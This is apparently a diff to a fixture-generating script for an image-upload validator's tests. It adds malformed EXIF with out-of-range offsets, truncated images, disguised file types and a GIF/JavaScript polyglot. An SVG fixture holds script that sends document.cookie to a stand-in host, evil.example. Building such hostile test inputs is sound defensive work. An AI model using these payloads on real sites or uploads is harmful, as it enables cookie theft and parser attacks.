@@ -97,6 +97,10 @@ writeFileSync(at('size-low-band.jpg'), padJpeg(compact, 55_500));
 writeFileSync(at('size-high-band.jpg'), padJpeg(compact, 5_100_000));
 writeFileSync(at('big.jpg'), padJpeg(good, 6_000_000));
 writeFileSync(at('truncated.jpg'), good.subarray(0, Math.floor(good.length * 0.6)));
+for (const name of ['good.png', 'good.webp']) {
+  const whole = readFileSync(at(name));
+  writeFileSync(at(name.replace('good', 'truncated')), whole.subarray(0, Math.floor(whole.length * 0.6)));
+}
 writeFileSync(at('renamed-png.jpg'), readFileSync(at('good.png')));
 
 // EXIF (little-endian TIFF) with Orientation, Software and an Exif IFD LensModel; and XMP.
@@ -153,6 +157,37 @@ writeFileSync(at('selfie.jpg'), withSegment(good, exifSegment({ orientation: 1, 
 writeFileSync(at('photoshop.jpg'), withSegment(good, exifSegment({ orientation: 1, software: 'Adobe Photoshop 25.0 (Windows)' })));
 writeFileSync(at('gimp.jpg'), withSegment(good, xmpSegment('GIMP 2.10.36')));
 
+// Malformed EXIF: every offset points far past the end of the file (and of the segment): the
+// Software and Make values, the Exif IFD and the next IFD. Orientation 2 sits among them.
+function badExifSegment() {
+  const entry = (id, type, count, value) => {
+    const e = Buffer.alloc(12);
+    e.writeUInt16LE(id, 0);
+    e.writeUInt16LE(type, 2);
+    e.writeUInt32LE(count, 4);
+    e.writeUInt32LE(value, 8);
+    return e;
+  };
+  const count = Buffer.alloc(2);
+  count.writeUInt16LE(4, 0);
+  const next = Buffer.alloc(4);
+  next.writeUInt32LE(0xfffffff0, 0);
+  const tiff = Buffer.concat([
+    Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]),
+    count,
+    entry(0x010f, 2, 0x7fffffff, 5000), // Make: 2 GB of text at byte 5000
+    entry(0x0112, 3, 1, 2), // Orientation: mirrored
+    entry(0x0131, 2, 1000, 0xffffff00), // Software: 1000 bytes at 4 GB
+    entry(0x8769, 4, 1, 0x7ffffff0), // Exif IFD at 2 GB
+    next, // IFD1 at 4 GB
+  ]);
+  const payload = Buffer.concat([Buffer.from('Exif\0\0'), tiff]);
+  const head = Buffer.from([0xff, 0xe1, 0, 0]);
+  head.writeUInt16BE(payload.length + 2, 2);
+  return Buffer.concat([head, payload]);
+}
+writeFileSync(at('bad-exif.jpg'), withSegment(good, badExifSegment()));
+
 // Not pictures at all.
 writeFileSync(at('empty.jpg'), Buffer.alloc(0));
 writeFileSync(at('random.jpg'), randomBytes(100_000));
@@ -162,7 +197,27 @@ const mdat = Buffer.concat([Buffer.from([0, 1, 0x86, 0xa0]), Buffer.from('mdat')
 writeFileSync(at('garbage.heic'), Buffer.concat([ftyp, mdat]));
 writeFileSync(at('notes.txt'), 'My certificate number is 91310000MA1FL0000X.\n'.repeat(2000));
 writeFileSync(at('scan.pdf'), `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n${'% padding\n'.repeat(6000)}trailer << /Root 1 0 R >>\n%%EOF\n`);
-writeFileSync(at('script.svg'), `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="1000" onload="fetch('https://evil.example/steal')"><script>fetch('https://evil.example/x', { method: 'POST', body: document.cookie })</script><rect width="1600" height="1000" fill="red"/>${'<!-- padding -->'.repeat(4000)}</svg>\n`);
+const svg = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="1000" onload="fetch('https://evil.example/steal')"><script>fetch('https://evil.example/x', { method: 'POST', body: document.cookie })</script><rect width="1600" height="1000" fill="red"/>${'<!-- padding -->'.repeat(4000)}</svg>\n`;
+writeFileSync(at('script.svg'), svg);
+// The same two, named like pictures.
+writeFileSync(at('script-svg.png'), svg);
+writeFileSync(at('scan-pdf.jpg'), readFileSync(at('scan.pdf')));
+
+// A GIF/JavaScript polyglot: a valid 1 × 1 GIF that also parses as a script. The width bytes "/*"
+// open a comment over the binary header; a GIF comment block closes it and sets the page title,
+// then "//" hides the rest. The checker must call it a GIF and never run it.
+const script = `*/=1;document.title='polyglot ran';//`;
+const polyglot = Buffer.concat([
+  Buffer.from('GIF89a/*', 'latin1'), // logical screen 10799 wide…
+  Buffer.from([0x0a, 0x00, 0x80, 0x00, 0x00]), // …10 high; 2-colour table
+  Buffer.from([0, 0, 0, 0xff, 0xff, 0xff]),
+  Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00]), // one pixel
+  Buffer.from([0x21, 0xfe, script.length]),
+  Buffer.from(script, 'latin1'),
+  Buffer.from([0x00, 0x3b]), // end of comment, GIF trailer (";" to JavaScript)
+]);
+new Function(polyglot.toString('latin1')); // parses as JavaScript (compiled, never called)
+writeFileSync(at('polyglot.gif'), polyglot);
 
 // Decompression bomb: 20000 × 20000 one-bit PNG, 400 million pixels in a few dozen KB.
 // And a 10000 × 10000 (100 MP) greyscale PNG. Rows stream through zlib: memory stays small.
